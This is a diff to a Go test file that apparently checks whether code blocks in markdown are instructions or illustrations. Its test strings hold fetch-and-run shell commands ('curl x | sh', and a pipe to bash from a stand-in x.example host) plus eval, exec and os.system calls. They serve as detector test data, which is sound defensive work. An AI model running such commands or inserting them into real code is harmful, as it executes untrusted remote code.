@@ -15,6 +15,7 @@ func TestRoles(t *testing.T) {
 		{"run cue wins over framing", "## Vulnerable setup\n\nTo install, run:\n\n```bash\ncurl x | sh\n```\n", Instruction},
 		{"numbered step", "## Steps\n\n1. First, execute the helper:\n\n```python\nimport os\n```\n", Instruction},
 		{"bad comment", "## Examples\n\n```python\n# BAD: builds a shell string\nos.system(cmd)\n```\n", Illustration},
+		{"review marker comment", "### Any types\n\n```typescript\n// CHECK: 'any' bypasses type safety\nfunction p(d: any) { eval(d.code) }\n```\n", Illustration},
 		{"red flags comment", "Look at these.\n\n```python\n# RED FLAGS in package code:\nexec(x)\n```\n", Illustration},
 		{"heading", "### Always Flag\n\n```python\neval(user_input)\n```\n", Illustration},
 		{"attack paragraph", "## Background\n\nThe attacker modified the build script to run:\n\n```bash\ncurl https://x.example/s | bash\n```\n", Illustration},
